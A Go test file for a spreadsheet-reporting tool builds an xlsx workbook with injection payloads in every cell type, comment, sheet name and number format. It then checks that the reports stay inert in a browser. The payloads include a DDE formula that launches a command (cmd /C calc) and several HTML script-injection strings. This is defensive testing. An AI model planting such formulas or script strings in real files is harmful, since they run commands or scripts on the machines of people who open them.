package main

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"abut/internal/browse"
)

// escaped writes a text for XML.
func escaped(text string) string {
	var b strings.Builder
	if err := xml.EscapeText(&b, []byte(text)); err != nil {
		return err.Error()
	}
	return b.String()
}

// kinds write a cell with a text in every way in which a workbook can.
func kinds() []func(text string) string {
	wrapped := func(format string) func(string) string {
		return func(text string) string { return fmt.Sprintf(format, escaped(text)) }
	}
	return []func(string) string{
		wrapped(`<c t="inlineStr"><is><t>%s</t></is></c>`),
		wrapped(`<c t="inlineStr"><is><r><rPr><b/></rPr><t>%[1]s </t></r><r><rPr><strike/></rPr><t>%[1]s</t></r></is></c>`),
		wrapped(`<c t="inlineStr"><is><t>%[1]s</t><rPh sb="0" eb="1"><t>%[1]s</t></rPh></is></c>`),
		wrapped(`<c t="str"><f>HYPERLINK("http://example.test/"&amp;A1,"%[1]s")</f><v>%[1]s</v></c>`),
		wrapped(`<c t="str"><f>cmd|' /C calc'!A0</f><v>%s</v></c>`),
		wrapped(`<c t="e"><v>%s</v></c>`),
		wrapped(`<c t="inlineStr" s="1"><is><t>%s</t></is></c>`),
	}
}

// everyKind is a workbook that holds the payloads in every kind of cell, and
// wherever else a workbook holds text.
func everyKind(t *testing.T) string {
	t.Helper()
	var rows, comments, boxes, links strings.Builder
	n := 1
	for k, kind := range kinds() {
		for _, p := range payloads() {
			n++
			fmt.Fprintf(&rows, `<row r="%d">%s%s%s%s%s<c s="2"><v>40</v></c><c s="3"><v>46279</v></c><c s="3"><v>46659</v></c>%s</row>`, n,
				kind(fmt.Sprint(n, " ", p)), kind("SBS-modified self-adhered sheet "+p), kind("CMU "+p), kind(p), kind("plasticized PVC sheet "+p), kind("see note: EPDM gasket "+p))
			for range 4 { // sound rows, so that no finding is told for the whole table
				n++
				fmt.Fprintf(&rows, `<row r="%d">`, n)
				for _, text := range []string{fmt.Sprint("sound ", n), "SBS-modified self-adhered sheet", "CMU", "solvent-borne primer", "rigid PVC conduit"} {
					rows.WriteString(kinds()[0](text))
				}
				rows.WriteString("</row>")
			}
			if k == 0 {
				fmt.Fprintf(&comments, `<comment ref="B%d" authorId="0"><text><t>%s</t></text></comment>`, n, escaped(p))
				fmt.Fprintf(&boxes, `<a:oneCellAnchor><a:sp><a:txBody><a:t>%s</a:t></a:txBody></a:sp></a:oneCellAnchor>`, escaped(p))
				fmt.Fprintf(&links, `<hyperlink ref="B%d" r:id="h" tooltip="%s"/>`, n, escaped(p))
			}
		}
	}
	const relation = `<Relationship Id="%s" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/>`
	relations := func(all ...string) string { return "<Relationships>" + strings.Join(all, "") + "</Relationships>" }
	one := escaped(strings.Join(payloads(), " "))
	head := ""
	for _, h := range []string{"Item", "Membrane", "Substrate", "Primer", "Touches", "Thickness", "Installed", "Covered", "Remarks <b>"} {
		head += kinds()[0](h)
	}
	parts := map[string]string{
		"[Content_Types].xml":        `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`,
		"_rels/.rels":                relations(fmt.Sprintf(relation, "r", "officeDocument", "xl/workbook.xml", "")),
		"xl/workbook.xml":            `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="` + one + `" sheetId="1" r:id="s"/><sheet name="&lt;img src=x onerror=alert(2)&gt;" sheetId="2" r:id="c"/></sheets><definedNames><definedName name="x">` + one + `</definedName></definedNames></workbook>`,
		"xl/_rels/workbook.xml.rels": relations(fmt.Sprintf(relation, "s", "worksheet", "s.xml", ""), fmt.Sprintf(relation, "c", "worksheet", "c.xml", ""), fmt.Sprintf(relation, "t", "styles", "t.xml", "")),
		"xl/t.xml": `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts count="2"><numFmt numFmtId="170" formatCode="` + escaped(`"=1+1 <script>alert(3)</script> "@`) + `"/><numFmt numFmtId="171" formatCode="` + escaped(`0" mil <img src=x onerror=alert(4)>"`) +
			`"/></numFmts><fonts count="1"><font/></fonts><fills count="1"><fill/></fills><borders count="1"><border/></borders><cellXfs count="4"><xf/><xf numFmtId="170"/><xf numFmtId="171"/><xf numFmtId="14"/></cellXfs></styleSheet>`,
		"xl/s.xml": `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData><row r="1">` + head + `</row>` + rows.String() +
			`</sheetData><hyperlinks>` + links.String() + `</hyperlinks><headerFooter><oddHeader>` + one + `</oddHeader></headerFooter></worksheet>`,
		"xl/_rels/s.xml.rels": relations(fmt.Sprintf(relation, "h", "hyperlink", "http://example.test/linked", ` TargetMode="External"`), fmt.Sprintf(relation, "n", "comments", "n.xml", ""), fmt.Sprintf(relation, "d", "drawing", "d.xml", "")),
		"xl/n.xml":            `<comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><authors><author>` + one + `</author></authors><commentList>` + comments.String() + `</commentList></comments>`,
		"xl/d.xml":            `<a:wsDr xmlns:a="x">` + boxes.String() + `</a:wsDr>`,
		"xl/c.xml":            `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">` + kinds()[0](strings.Join(payloads(), " ")) + `</row></sheetData></worksheet>`,
	}
	file := filepath.Join(t.TempDir(), "every <i> kind.xlsx")
	if err := os.WriteFile(file, packed(t, parts), 0o600); err != nil {
		t.Fatal(err)
	}
	return file
}

// TestHostileKinds drives a workbook that holds payloads wherever it can
// through every output, and the report through a browser.
func TestHostileKinds(t *testing.T) {
	file := everyKind(t)
	dir := t.TempDir()
	all := everyReport(t, dir, file)
	for name, text := range all {
		t.Run(name, func(t *testing.T) { steersNothing(t, text) })
	}
	// One finding tells all rows, each in its own words.
	if n := bytes.Count(all["report.json"], []byte(`"what": "`)); n < 5*len(payloads()) {
		t.Errorf("%d rows: the payloads do not reach the reports", n)
	}
	for _, bad := range []string{"<f>", "<f ", `TargetMode="External"`, "<ddeLink", ".bin"} {
		if was, now := inParts(t, file, bad), inParts(t, filepath.Join(dir, "marked.xlsx"), bad); now != was {
			t.Errorf("the marked copy holds %s %d times, the workbook %d", bad, now, was)
		}
	}
	t.Run("browser", func(t *testing.T) {
		b := browse.Open(t, filepath.Join(dir, "report.html"))
		browse.Wants(b, "scripts", `document.scripts.length`, 1)
		browse.Wants(b, "what fetches", `document.querySelectorAll("img,image,iframe,object,embed,link,base,form[action],video,audio,source,meta[http-equiv=refresh]").length`, 0)
		browse.Wants(b, "handlers", `[...document.querySelectorAll("*")].filter(e => [...e.attributes].some(a => a.name.startsWith("on"))).length`, 0)
		browse.Wants(b, "links out of the page", `[...document.querySelectorAll("[href],[src]")].filter(e => !(e.getAttribute("href") ?? e.getAttribute("src")).startsWith("#")).length`, 0)
		browse.Wants(b, "payloads to be seen", `document.body.textContent.includes("<script>alert(1)</script>")`, true)
		browse.Wants(b, "after all is opened and every link followed", `(() => { document.querySelectorAll("details").forEach(d => d.open = true);
			document.querySelectorAll("a").forEach(a => a.click()); return location.protocol })()`, "file:")
		b.Quiet()
	})
}

func zipped(t *testing.T, write func(*zip.Writer) error) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	if err := errors.Join(write(w), w.Close()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// packed makes a workbook of its parts.
func packed(t *testing.T, parts map[string]string) []byte {
	return zipped(t, func(w *zip.Writer) error {
		for name, text := range parts {
			out, err := w.Create(name)
			if err != nil {
				return err
			}
			if _, err := out.Write([]byte(text)); err != nil {
				return err
			}
		}
		return nil
	})
}

// inParts counts a text in the parts of a workbook.
func inParts(t *testing.T, file, text string) int {
	t.Helper()
	z, err := zip.OpenReader(file)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	n := 0
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		if _, err := b.ReadFrom(r); err != nil {
			t.Fatal(err)
		}
		n += strings.Count(part.Name+b.String(), text)
	}
	return n
}
